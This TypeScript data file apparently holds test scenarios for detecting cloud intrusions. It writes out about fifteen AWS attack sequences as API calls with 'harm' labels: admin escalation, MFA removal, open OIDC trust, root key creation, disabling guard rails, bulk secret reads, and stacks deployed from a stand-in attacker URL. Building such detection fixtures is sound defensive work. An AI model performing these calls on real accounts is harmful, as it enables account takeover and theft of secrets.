import { AGENTS, HOME, role, ROOT, STRANGER, user, type Caller, type Intrusion, type Step } from '../step';

const CLI = 'aws-cli/2.33.2 md/awscrt#0.29.1 ua/2.1 os/windows#11 md/arch#amd64 lang/python#3.13.9 md/pyimpl#CPython';
const policy = (...statements: object[]): string => JSON.stringify({ Version: '2012-10-17', Statement: statements });
const everything = policy({ Effect: 'Allow', Action: '*', Resource: '*' });
const sso = (name: string, person: string, agent: string = CLI, from = '203.0.113.201') => role(`AWSReservedSSO_${name}_1f1e2d3c4b5a6978`, `${person}@example.com`, from, agent);
const INSTANCE = 'arn:aws:sso:::instance/ssoins-7223aa11bb22cc33';
const SET = 'arn:aws:sso:::permissionSet/ssoins-7223aa11bb22cc33/ps-aa11bb22cc33dd44';
/** Somebody whom a provider of identities vouched for. */
const federated = (name: string, provider: string, from: string): Caller => ({ identity: { type: 'WebIdentityUser', principalId: `arn:aws:iam::${HOME}:oidc-provider/${provider}:sts.amazonaws.com:${name}`, userName: name, identityProvider: `arn:aws:iam::${HOME}:oidc-provider/${provider}` }, from, agent: 'aws-sdk-js/3.940.0 ua/2.1 os/linux#6.8 lang/js md/nodejs#22.21.0' });

/** The part of the seventh set that is about identities, accounts and the organisation. */
export const identity: readonly Intrusion[] = [
  {
    name: 'certificates that open the account from anywhere',
    as: sso('Admin', 'jan'),
    steps: [
      { call: 'iam:CreateRole', request: { roleName: 'ra-backup', assumeRolePolicyDocument: policy({ Effect: 'Allow', Principal: { Service: 'rolesanywhere.amazonaws.com' }, Action: ['sts:AssumeRole', 'sts:TagSession', 'sts:SetSourceIdentity'] }) } },
      { call: 'iam:AttachRolePolicy', request: { roleName: 'ra-backup', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' }, harm: 'everything allowed to a role' },
      { call: 'rolesanywhere:CreateTrustAnchor', request: { name: 'corp', source: { sourceType: 'CERTIFICATE_BUNDLE', sourceData: { x509CertificateData: '-----BEGIN CERTIFICATE-----' } }, enabled: true }, harm: 'an authority for certificates of the intruder’s trusted' },
      { call: 'rolesanywhere:UpdateProfile', request: { profileId: 'aa11bb22-cc33-4d44-8e55-ff6677889901', roleArns: [`arn:aws:iam::${HOME}:role/ra-backup`], durationSeconds: 43200 }, harm: 'a profile that hands out the strongest role' },
    ],
  },
  {
    name: 'a directory of people given the keys of all accounts',
    as: sso('Admin', 'kim', AGENTS.browser),
    steps: [
      { call: 'sso:CreatePermissionSet', request: { instanceArn: INSTANCE, name: 'AuditSupport', sessionDuration: 'PT12H' }, response: { permissionSet: { permissionSetArn: SET } } },
      { call: 'sso:AttachManagedPolicyToPermissionSet', request: { instanceArn: INSTANCE, permissionSetArn: SET, managedPolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' }, harm: 'everything allowed to a set of rights' },
      { call: 'identitystore:CreateUser', request: { identityStoreId: 'd-9067aa11bb', userName: 'HIDDEN_DUE_TO_SECURITY_REASONS' }, response: { userId: 'u-1' } },
      { call: 'sso:CreateAccountAssignment', request: { instanceArn: INSTANCE, permissionSetArn: SET, principalType: 'USER', principalId: 'u-1', targetType: 'AWS_ACCOUNT', targetId: HOME }, harm: 'somebody given the management account' },
      { call: 'identitystore:CreateGroupMembership', request: { identityStoreId: 'd-9067aa11bb', groupId: 'g-admins', memberId: { userId: 'u-1' } }, harm: 'somebody put among the administrators' },
      { call: 'sso:PutInlinePolicyToPermissionSet', request: { instanceArn: INSTANCE, permissionSetArn: 'arn:aws:sso:::permissionSet/ssoins-7223aa11bb22cc33/ps-readonly', inlinePolicy: everything }, harm: 'readers of all accounts allowed everything' },
    ],
  },
  {
    name: 'repositories of a stranger may take on roles',
    as: user('terraform', 'Boto3/1.42.3 md/Botocore#1.42.3 ua/2.1 os/linux lang/python#3.12 Botocore/1.42.3', '198.51.100.202'),
    steps: [
      { call: 'iam:ListOpenIDConnectProviders' },
      { call: 'iam:CreateOpenIDConnectProvider', request: { url: 'https://token.actions.githubusercontent.com', clientIDList: ['sts.amazonaws.com'], thumbprintList: ['6938fd4d98bab03faadb97b34396831e3780aea1'] }, harm: 'a provider of identities trusted' },
      { call: 'iam:CreateRole', request: { roleName: 'github-pages', assumeRolePolicyDocument: policy({ Effect: 'Allow', Principal: { Federated: `arn:aws:iam::${HOME}:oidc-provider/token.actions.githubusercontent.com` }, Action: 'sts:AssumeRoleWithWebIdentity', Condition: { StringLike: { 'token.actions.githubusercontent.com:sub': 'repo:*' } } }) }, harm: 'a role for whoever has a repository' },
      { call: 'iam:PutRolePolicy', request: { roleName: 'github-pages', policyName: 'x', policyDocument: everything }, harm: 'everything allowed to it' },
      { call: 'sts:AssumeRoleWithWebIdentity', as: federated('repo:drop/x:ref:refs/heads/main', 'token.actions.githubusercontent.com', '20.57.1.2'), request: { roleArn: `arn:aws:iam::${HOME}:role/github-pages`, roleSessionName: 'GitHubActions' }, response: { credentials: { accessKeyId: 'ASIAFEDERATEDEXAMPL1' } } },
    ],
  },
  {
    name: 'a console and second factors from a stolen key',
    as: user('helpdesk', AGENTS.cli, '198.51.100.203'),
    steps: [
      { call: 'sts:GetFederationToken', request: { name: 'x', policy: everything, durationSeconds: 43200 }, harm: 'a session made of a key' },
      { call: 'signin:GetSigninToken', as: { identity: { type: 'FederatedUser', principalId: `${HOME}:x`, arn: `arn:aws:sts::${HOME}:federated-user/x`, accountId: HOME, accessKeyId: 'ASIAFEDERATEDEXAMPL2' }, from: '198.51.100.203', agent: 'python-requests/2.32.5' }, more: { eventType: 'AwsConsoleSignIn' }, response: { GetSigninToken: 'Success' }, harm: 'a key turned into a console' },
      { call: 'iam:DeactivateMFADevice', request: { userName: 'frank', serialNumber: `arn:aws:iam::${HOME}:mfa/frank` }, harm: 'the second factor of another user taken away' },
      { call: 'iam:UpdateLoginProfile', request: { userName: 'frank', passwordResetRequired: false }, harm: 'the password of another user exchanged' },
      { call: 'iam:CreateVirtualMFADevice', request: { virtualMFADeviceName: 'frank2' } },
      { call: 'iam:EnableMFADevice', request: { userName: 'frank', serialNumber: `arn:aws:iam::${HOME}:mfa/frank2` }, harm: 'a second factor of the intruder’s for another user' },
    ],
  },
  {
    name: 'rights that were allowed to grow',
    as: role('Developer', 'leo@example.com', '203.0.113.204', CLI),
    steps: [
      { call: 'iam:ListAttachedRolePolicies', request: { roleName: 'Developer' } },
      { call: 'iam:CreatePolicyVersion', request: { policyArn: `arn:aws:iam::${HOME}:policy/developer`, policyDocument: everything, setAsDefault: true }, harm: 'everything allowed by a policy that one has' },
      { call: 'iam:SetDefaultPolicyVersion', request: { policyArn: `arn:aws:iam::${HOME}:policy/ops`, versionId: 'v1' }, harm: 'an old version of a policy made the one in use' },
      { call: 'iam:AddUserToGroup', request: { userName: 'leo', groupName: 'Administrators' }, harm: 'somebody put among the administrators' },
      { call: 'iam:PutUserPolicy', request: { userName: 'leo', policyName: 'x', policyDocument: policy({ Effect: 'Allow', Action: ['iam:*', 'sts:*'], Resource: '*' }) }, harm: 'all of IAM allowed to a user' },
      { call: 'iam:UpdateAssumeRolePolicy', request: { roleName: 'Admin', policyDocument: policy({ Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${STRANGER}:root` }, Action: 'sts:AssumeRole' }) }, harm: 'the strongest role opened to a strange account' },
    ],
  },
  {
    name: 'rarer keys for users that were there',
    as: sso('Admin', 'mia'),
    steps: [
      { call: 'iam:UploadSSHPublicKey', request: { userName: 'build', sSHPublicKeyBody: 'ssh-rsa AAAA' }, response: { sSHPublicKey: { userName: 'build', sSHPublicKeyId: 'APKAEXAMPLE', status: 'Active' } }, harm: 'a key for the code of the company' },
      { call: 'iam:CreateServiceSpecificCredential', request: { userName: 'build', serviceName: 'codecommit.amazonaws.com' }, harm: 'a password for the code of the company' },
      { call: 'iam:CreateServiceSpecificCredential', request: { userName: 'bedrock-x', serviceName: 'bedrock.amazonaws.com', credentialAgeDays: 36600 }, harm: 'a key for models that lasts a hundred years' },
      { call: 'iam:UploadSigningCertificate', request: { userName: 'build', certificateBody: '-----BEGIN CERTIFICATE-----' }, harm: 'a certificate that signs requests of another user' },
      { call: 'iam:UpdateAccessKey', request: { userName: 'old-admin', accessKeyId: 'AKIAEXAMPLEOLDADMIN1', status: 'Active' }, harm: 'a key that was put aside in use again' },
    ],
  },
  {
    name: 'nobody told, and weak passwords allowed',
    as: sso('Admin', 'nat', AGENTS.browser),
    steps: [
      { call: 'account:PutAlternateContact', request: { alternateContactType: 'SECURITY', emailAddress: 'HIDDEN_DUE_TO_SECURITY_REASONS', name: 'HIDDEN_DUE_TO_SECURITY_REASONS' }, harm: 'reports of abuse sent elsewhere' },
      { call: 'iam:DeleteAccountPasswordPolicy', request: null, harm: 'any password is good' },
      { call: 'account:EnableRegion', request: { regionName: 'ap-east-1' }, harm: 'a region where nobody looks switched on' },
      { call: 'iam:CreateAccountAlias', request: { accountAlias: 'acme-support' } },
    ],
  },
  {
    name: 'accounts that leave the organisation, and guard rails that fall',
    as: role('OrganizationAccountAccessRole', 'olga', '203.0.113.205', CLI),
    steps: [
      { call: 'organizations:DescribeOrganization' },
      { call: 'organizations:DetachPolicy', request: { policyId: 'p-aa11bb22', targetId: 'ou-aa11-bb22cc33' }, harm: 'a guard rail taken off' },
      { call: 'organizations:DisablePolicyType', request: { rootId: 'r-aa11', policyType: 'SERVICE_CONTROL_POLICY' }, harm: 'all guard rails taken off' },
      { call: 'organizations:RegisterDelegatedAdministrator', request: { accountId: '777788889999', servicePrincipal: 'cloudtrail.amazonaws.com' }, harm: 'a member account made master of the trails' },
      { call: 'organizations:RemoveAccountFromOrganization', request: { accountId: '777788889999' }, harm: 'an account put out of the organisation' },
      { call: 'organizations:LeaveOrganization', request: null, harm: 'the account left the organisation' },
      { call: 'organizations:AcceptHandshake', request: { handshakeId: 'h-aa11bb22cc33' }, response: { handshake: { action: 'INVITE', parties: [{ type: 'ORGANIZATION', id: 'o-stranger' }] } }, harm: 'the account joined a strange organisation' },
    ],
  },
  {
    name: 'the root user, from where nobody sits',
    as: ROOT,
    steps: [
      { call: 'signin:ConsoleLogin', more: { eventType: 'AwsConsoleSignIn', additionalEventData: { LoginTo: 'https://console.aws.amazon.com/', MobileVersion: 'No', MFAUsed: 'No' } }, response: { ConsoleLogin: 'Success' }, harm: 'the root user signed in without a second factor' },
      { call: 'iam:CreateAccessKey', request: null, response: { accessKey: { accessKeyId: 'AKIAEXAMPLEROOTKEY01', status: 'Active' } }, harm: 'a key of the root user made' },
      { call: 'iam:DeactivateMFADevice', request: { serialNumber: `arn:aws:iam::${HOME}:mfa/root-account-mfa-device` }, harm: 'the second factor of the root user taken away' },
      { call: 's3:PutBucketPolicy', request: { bucketName: 'acme-backups', bucketPolicy: { Statement: [{ Effect: 'Allow', Principal: '*', Action: 's3:*', Resource: ['arn:aws:s3:::acme-backups/*'] }] } }, harm: 'a bucket of backups opened to everybody' },
    ],
  },
  {
    name: 'root sessions for member accounts',
    as: sso('Admin', 'pia'),
    steps: [
      { call: 'iam:EnableOrganizationsRootSessions', request: null, harm: 'sessions of root users for the whole organisation' },
      { call: 'sts:AssumeRoot', request: { targetPrincipal: '777788889999', taskPolicyArn: { arn: 'arn:aws:iam::aws:policy/root-task/S3UnlockBucketPolicy' } }, response: { credentials: { accessKeyId: 'ASIAROOTEXAMPLE00001' } }, harm: 'the rights of a root user taken on' },
      { call: 'sts:AssumeRoot', request: { targetPrincipal: '777788889990', taskPolicyArn: { arn: 'arn:aws:iam::aws:policy/root-task/IAMCreateRootUserPassword' } }, response: { credentials: { accessKeyId: 'ASIAROOTEXAMPLE00002' } }, harm: 'a password for another root user made possible' },
    ],
  },
  {
    name: 'roles guessed, then taken on in all accounts',
    as: role('Developer', 'quin@example.com', '203.0.113.206', 'Boto3/1.42.3 md/Botocore#1.42.3 ua/2.1 os/linux lang/python#3.12 Botocore/1.42.3'),
    steps: [
      ...['admin', 'Admin', 'administrator', 'ops', 'deploy', 'backup', 'terraform', 'ci', 'security-audit', 'billing', 'root', 'infra'].map((name, n): Step => ({ call: 'sts:AssumeRole', request: { roleArn: `arn:aws:iam::${HOME}:role/${name}`, roleSessionName: 'x' }, error: 'AccessDenied', message: 'User is not authorized to perform: sts:AssumeRole', after: 1, ...(n === 11 ? { harm: 'roles guessed one after the other' } : {}) })),
      ...Array.from({ length: 8 }, (_, n): Step => ({ call: 'sts:AssumeRole', request: { roleArn: `arn:aws:iam::77778888999${n}:role/OrganizationAccountAccessRole`, roleSessionName: 'x' }, response: { credentials: { accessKeyId: `ASIAMEMBEREXAMPLE00${n}` } }, after: 2, ...(n === 7 ? { harm: 'the strongest role of one account after the other' } : {}) })),
    ],
  },
  {
    name: 'a second key, and the owner’s own put out of use',
    as: user('rob', CLI, '198.51.100.207'),
    steps: [
      { call: 'iam:ListAccessKeys', request: { userName: 'rob' } },
      { call: 'iam:CreateAccessKey', request: { userName: 'rob' }, response: { accessKey: { userName: 'rob', accessKeyId: 'AKIAEXAMPLEROB000002', status: 'Active' } }, harm: 'a second key made with the stolen one' },
      { call: 'iam:UpdateAccessKey', request: { userName: 'admin', accessKeyId: 'AKIAEXAMPLEADMIN0001', status: 'Inactive' }, harm: 'the key of an administrator put out of use' },
      { call: 'iam:DeleteUser', request: { userName: 'secops' }, harm: 'a user of those who watch deleted' },
      { call: 'iam:DetachUserPolicy', request: { userName: 'rob', policyArn: 'arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV3' }, harm: 'the quarantine of a leaked key taken off' },
    ],
  },
  {
    name: 'the token of a pipeline, used from a rented server',
    as: role('github-deploy', 'GitHubActions', '198.51.100.208', 'aws-sdk-js/3.940.0 ua/2.1 os/linux#6.8 lang/js md/nodejs#22.21.0'),
    steps: [
      { call: 'sts:AssumeRoleWithWebIdentity', as: federated('repo:acme/shop:pull_request', 'token.actions.githubusercontent.com', '198.51.100.208'), request: { roleArn: `arn:aws:iam::${HOME}:role/github-deploy`, roleSessionName: 'GitHubActions' }, response: { credentials: { accessKeyId: 'ASIAIOSFODNN7EXAMPLE' } } },
      { call: 'sts:GetCallerIdentity' },
      { call: 'secretsmanager:ListSecrets', request: {} },
      { call: 'secretsmanager:BatchGetSecretValue', request: { filters: [{ key: 'all', values: [''] }] }, harm: 'all secrets read at once' },
      { call: 'lambda:UpdateFunctionCode20150331v2', request: { functionName: 'checkout', publish: true, dryRun: false } },
      { call: 'iam:CreateUser', request: { userName: 'github-deploy-2' }, harm: 'a user made by a pipeline' },
      { call: 'iam:CreateAccessKey', request: { userName: 'github-deploy-2' }, response: { accessKey: { userName: 'github-deploy-2', accessKeyId: 'AKIAEXAMPLEGITHUB002', status: 'Active' } }, harm: 'a key that lasts' },
    ],
  },
  {
    name: 'stacks that make what one may not make',
    as: role('Developer', 'sue@example.com', '203.0.113.209', CLI),
    steps: [
      { call: 'cloudformation:ValidateTemplate', request: { templateURL: 'https://stranger-drop.s3.amazonaws.com/x.yml' } },
      { call: 'cloudformation:CreateStack', request: { stackName: 'x', templateURL: 'https://stranger-drop.s3.amazonaws.com/x.yml', capabilities: ['CAPABILITY_NAMED_IAM'], roleARN: `arn:aws:iam::${HOME}:role/cfn-admin` }, response: { stackId: 'x' }, harm: 'a stack made with a stronger role' },
      { call: 'cloudformation:CreateStackSet', request: { stackSetName: 'x', templateURL: 'https://stranger-drop.s3.amazonaws.com/x.yml', permissionModel: 'SERVICE_MANAGED', autoDeployment: { enabled: true }, capabilities: ['CAPABILITY_NAMED_IAM'] }, harm: 'a stack for all accounts of the organisation' },
      { call: 'cloudformation:SetStackPolicy', request: { stackName: 'prod', stackPolicyBody: policy({ Effect: 'Allow', Action: 'Update:*', Principal: '*', Resource: '*' }) } },
      { call: 'cloudformation:DeleteStack', request: { stackName: 'prod', deletionMode: 'FORCE_DELETE_STACK' }, harm: 'production deleted with its stack' },
    ],
  },
  {
    name: 'a shell in the browser that reads what it should not',
    as: sso('PowerUser', 'tom', AGENTS.browser),
    steps: [
      { call: 'cloudshell:CreateEnvironment', request: {} },
      { call: 'cloudshell:CreateSession', request: { EnvironmentId: 'aa11', SessionType: 'TMUX' } },
      { call: 'sts:GetCallerIdentity', as: sso('PowerUser', 'tom', 'aws-cli/2.32.4 md/awscrt#0.28.4 ua/2.1 os/linux#6.1.155 md/arch#x86_64 lang/python#3.13.9 exec-env/CloudShell') },
      ...Array.from({ length: 8 }, (_, n): Step => ({ call: 'secretsmanager:GetSecretValue', request: { secretId: `prod/service-${n}` }, as: sso('PowerUser', 'tom', 'aws-cli/2.32.4 md/awscrt#0.28.4 ua/2.1 os/linux#6.1.155 md/arch#x86_64 lang/python#3.13.9 exec-env/CloudShell'), after: 2, ...(n === 7 ? { harm: 'secrets read one after the other in CloudShell' } : {}) })),
      { call: 'cloudshell:GetFileDownloadUrls', request: { EnvironmentId: 'aa11', FileDownloadPath: '/home/cloudshell-user/s.zip' } },
    ],
  },
];
